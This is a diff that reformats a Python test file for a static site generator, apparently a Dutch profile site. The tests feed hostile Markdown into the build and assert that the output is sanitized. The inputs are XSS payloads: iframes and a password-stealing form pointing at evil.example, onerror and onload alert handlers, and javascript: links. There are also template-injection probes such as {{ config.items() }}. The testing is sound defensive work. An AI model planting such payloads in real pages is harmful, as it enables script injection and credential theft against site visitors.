@@ -35,7 +35,7 @@ REMOVED = {
     "iframe": "<iframe src='https://evil.example/'>BODYIFRAME</iframe>",
     "style": "<style>body{display:none} .BODYSTYLE{}</style>",
     "form": "<form action='https://evil.example/steel'><input name=wachtwoord></form>",
-    "img": "<img src=\"x\" onerror=\"alert('BODYIMG')\">",
+    "img": '<img src="x" onerror="alert(\'BODYIMG\')">',
     "svg": "<svg onload=\"alert('BODYSVG')\"><script>alert('BODYSVGSCRIPT')</script></svg>",
     "object": "<object data='https://evil.example/x.swf'>BODYOBJECT</object>",
     "comment": "<!-- BODYCOMMENT -->",
@@ -61,20 +61,22 @@ BAD_TARGETS = {
 }
 LINKS = "\n".join(f"- [Link {how}]({target})" for how, target in BAD_TARGETS.items())
 
-BODY = "\n\n".join([
-    "# Mijn verhaal",
-    *(f"Voor-{tag} {payload} na-{tag}." for tag, payload in (REMOVED | AS_TEXT).items()),
-    LINKS,
-    "[Referentie][slecht] en <a href=\"javascript:alert('L11')\" onclick=\"alert('L12')\">rauw</a>.\n\n"
-    "[slecht]: javascript:alert('L13')",
-    "Alinea met attributen\n{: onclick=\"alert('A1')\" style=\"color:red\" #eigen-id .eigen-klasse }",
-    "## Kop met attributen {: onmouseover=\"alert('A2')\" }",
-    "Setext-kop\n==========",
-    "<h1>Rauwe kop</h1>",
-    "{{ 7*7 }}",
-    "{% raw %}{{ 7*7 }}{% endraw %} en {{ config.items() }} en {% for x in range(3) %}{{ x }}{% endfor %}",
-    "Naar [de buren](https://buren.example.org/pad) of <https://autolink.example.org/>.",
-])
+BODY = "\n\n".join(
+    [
+        "# Mijn verhaal",
+        *(f"Voor-{tag} {payload} na-{tag}." for tag, payload in (REMOVED | AS_TEXT).items()),
+        LINKS,
+        "[Referentie][slecht] en <a href=\"javascript:alert('L11')\" onclick=\"alert('L12')\">rauw</a>.\n\n"
+        "[slecht]: javascript:alert('L13')",
+        'Alinea met attributen\n{: onclick="alert(\'A1\')" style="color:red" #eigen-id .eigen-klasse }',
+        "## Kop met attributen {: onmouseover=\"alert('A2')\" }",
+        "Setext-kop\n==========",
+        "<h1>Rauwe kop</h1>",
+        "{{ 7*7 }}",
+        "{% raw %}{{ 7*7 }}{% endraw %} en {{ config.items() }} en {% for x in range(3) %}{{ x }}{% endfor %}",
+        "Naar [de buren](https://buren.example.org/pad) of <https://autolink.example.org/>.",
+    ]
+)
 
 PROFILE = f"""\
 ---
@@ -132,12 +134,15 @@ SLUG = "kwaadwillend"
 @pytest.fixture(scope="module")
 def output(tmp_path_factory: pytest.TempPathFactory) -> dict[str, bytes]:
     folder = tmp_path_factory.mktemp("markup")
-    site = write_site(folder / "site", {
-        f"content/profiles/{SLUG}.md": PROFILE,
-        "content/profiles/anna-de-vries.md": VALID_PROFILE,
-        "content/assignments/kwaadwillende-klus.md": ASSIGNMENT,
-        "content/pages/rekenen.md": PAGE,
-    })
+    site = write_site(
+        folder / "site",
+        {
+            f"content/profiles/{SLUG}.md": PROFILE,
+            "content/profiles/anna-de-vries.md": VALID_PROFILE,
+            "content/assignments/kwaadwillende-klus.md": ASSIGNMENT,
+            "content/pages/rekenen.md": PAGE,
+        },
+    )
     return built(site, folder / "out", BUILD_DATE)
 
 
@@ -190,24 +195,38 @@ DATA_BLOCK_TYPES = {"application/ld+json", "application/json"}
 
 
 def test_25_no_dangerous_element_on_any_page(pages: dict[str, str]) -> None:
-    found = {(path, e.tag) for path, e in all_elements(pages)
-             if e.tag in {"iframe", "style", "object", "embed", "input", "textarea", "select"} and path != FORM_PAGE
-             and not (e.tag == "input" and e.attributes.get("type") == "search")}
+    found = {
+        (path, e.tag)
+        for path, e in all_elements(pages)
+        if e.tag in {"iframe", "style", "object", "embed", "input", "textarea", "select"}
+        and path != FORM_PAGE
+        and not (e.tag == "input" and e.attributes.get("type") == "search")
+    }
     assert found == set()
-    scripts = {(path, e.attributes.get("src") or "") for path, e in all_elements(pages)
-               if e.tag == "script" and e.attributes.get("type") not in DATA_BLOCK_TYPES}
+    scripts = {
+        (path, e.attributes.get("src") or "")
+        for path, e in all_elements(pages)
+        if e.tag == "script" and e.attributes.get("type") not in DATA_BLOCK_TYPES
+    }
     assert {path for path, _ in scripts} == {page_of(ADDRESS.search()), FORM_PAGE}
     assert all(re.fullmatch(r"/assets/js/(search|profile-form)\.[0-9a-f]{10}\.js", src) for _, src in scripts)
-    forms = {(e.attributes.get("action"), e.attributes.get("method"))
-             for path, e in all_elements(pages) if e.tag == "form" and path != FORM_PAGE}
+    forms = {
+        (e.attributes.get("action"), e.attributes.get("method"))
+        for path, e in all_elements(pages)
+        if e.tag == "form" and path != FORM_PAGE
+    }
     assert forms == {(ADDRESS.href(ADDRESS.search()), "get")}
     images = {e.attributes.get("src") for _, e in all_elements(pages) if e.tag == "img"}
     assert images == set()  # no photos here, and bodies never show images
 
 
 def test_25_no_event_handler_or_style_attribute(pages: dict[str, str]) -> None:
-    found = {(path, e.tag, name) for path, e in all_elements(pages) for name in e.attributes
-             if name.startswith("on") or name == "style"}
+    found = {
+        (path, e.tag, name)
+        for path, e in all_elements(pages)
+        for name in e.attributes
+        if name.startswith("on") or name == "style"
+    }
     assert found == set()
     assert [e.tag for _, e in all_elements(pages) if e.tag in {"b", "img"}] == []
     assert {e.attributes.get("class") for _, e in all_elements(pages) if e.tag == "svg"} == {"avatar"}
@@ -219,8 +238,10 @@ def test_25_no_unescaped_script_text(output: dict[str, bytes]) -> None:
             text = data.decode("utf-8")
             # Scripts are the theme's files; data blocks (JSON-LD, the form's rules) carry no '<' at all,
             # so no value can close them.
-            theirs = (r"<script(?! src=\"/assets/js/(?:search|profile-form)\.[0-9a-f]{10}\.js\" defer>)"
-                      r"(?! type=\"application/)")
+            theirs = (
+                r"<script(?! src=\"/assets/js/(?:search|profile-form)\.[0-9a-f]{10}\.js\" defer>)"
+                r"(?! type=\"application/)"
+            )
             assert re.findall(theirs, text) == [], path
             for block in re.findall(r'<script type="application/(?:ld\+)?json"[^>]*>(.*?)</script>', text, re.S):
                 assert "<" not in block, path
@@ -232,8 +253,12 @@ def test_25_no_unescaped_script_text(output: dict[str, bytes]) -> None:
 
 
 def test_26_every_link_has_a_safe_scheme(pages: dict[str, str]) -> None:
-    schemes = {urlsplit(value).scheme for _, e in all_elements(pages)
-               for name, value in e.attributes.items() if name in {"href", "src", "action"} and value}
+    schemes = {
+        urlsplit(value).scheme
+        for _, e in all_elements(pages)
+        for name, value in e.attributes.items()
+        if name in {"href", "src", "action"} and value
+    }
     assert schemes <= {"", "https", "mailto", "tel"}
 
 
@@ -258,8 +283,7 @@ def test_27_attr_list_attributes_are_stripped(pages: dict[str, str], kind: str) 
     page = pages[HOSTILE_PAGES[kind]]
     [paragraph] = [e for e in parse(page).find("p") if e.text.startswith("Alinea met attributen")]
     assert paragraph.attributes == {}
-    [heading] = [e for e in parse(page).elements if e.text.startswith("Kop met attributen")
-                 and e.tag.startswith("h")]
+    [heading] = [e for e in parse(page).elements if e.text.startswith("Kop met attributen") and e.tag.startswith("h")]
     assert heading.attributes == {}
     for text in ("'A1'", "'A2'", "eigen-id", "eigen-klasse", "color:red"):
         assert text not in page
@@ -308,11 +332,17 @@ def test_30_profile_name_is_escaped_everywhere(pages: dict[str, str]) -> None:
     assert 'href="https://www.example.com/&#34;quote&#34;"' in pages[HOSTILE_PAGES["profile"]]
 
 
-@pytest.mark.parametrize("listing", ["index.html", page_of(ADDRESS.listing("profiles")),
-                                     page_of(ADDRESS.term("fields", fold(FIELD))),
-                                     page_of(ADDRESS.term("skills", fold(SKILL))),
-                                     page_of(ADDRESS.term("regions", fold(NAME))),
-                                     page_of(ADDRESS.term("organisations", "gemeente-tilburg"))])
+@pytest.mark.parametrize(
+    "listing",
+    [
+        "index.html",
+        page_of(ADDRESS.listing("profiles")),
+        page_of(ADDRESS.term("fields", fold(FIELD))),
+        page_of(ADDRESS.term("skills", fold(SKILL))),
+        page_of(ADDRESS.term("regions", fold(NAME))),
+        page_of(ADDRESS.term("organisations", "gemeente-tilburg")),
+    ],
+)
 def test_30_cards_show_the_name_as_text(pages: dict[str, str], listing: str) -> None:
     titles = [e.text.strip() for e in parse(pages[listing]).elements if e.attributes.get("class") == "card-title"]
     assert NAME in titles
@@ -372,11 +402,16 @@ def test_body_headings_shift_down(pages: dict[str, str], kind: str, level: int) 
 
 
 def test_links_to_other_hosts_have_noopener(pages: dict[str, str]) -> None:
-    external = [(path, e) for path, e in all_elements(pages) if e.tag == "a"
-                and urlsplit(e.attributes.get("href") or "").netloc not in {"", "example.org"}]
+    external = [
+        (path, e)
+        for path, e in all_elements(pages)
+        if e.tag == "a" and urlsplit(e.attributes.get("href") or "").netloc not in {"", "example.org"}
+    ]
     hosts = {urlsplit(e.attributes["href"] or "").netloc for _, e in external}
     assert {"buren.example.org", "autolink.example.org", "www.example.com", "www.tilburg.nl"} <= hosts
-    missing = {(path, e.attributes["href"]) for path, e in external
-               if "noopener" not in (e.attributes.get("rel") or "").split()}
+    missing = {
+        (path, e.attributes["href"])
+        for path, e in external
+        if "noopener" not in (e.attributes.get("rel") or "").split()
+    }
     assert missing == set()
-
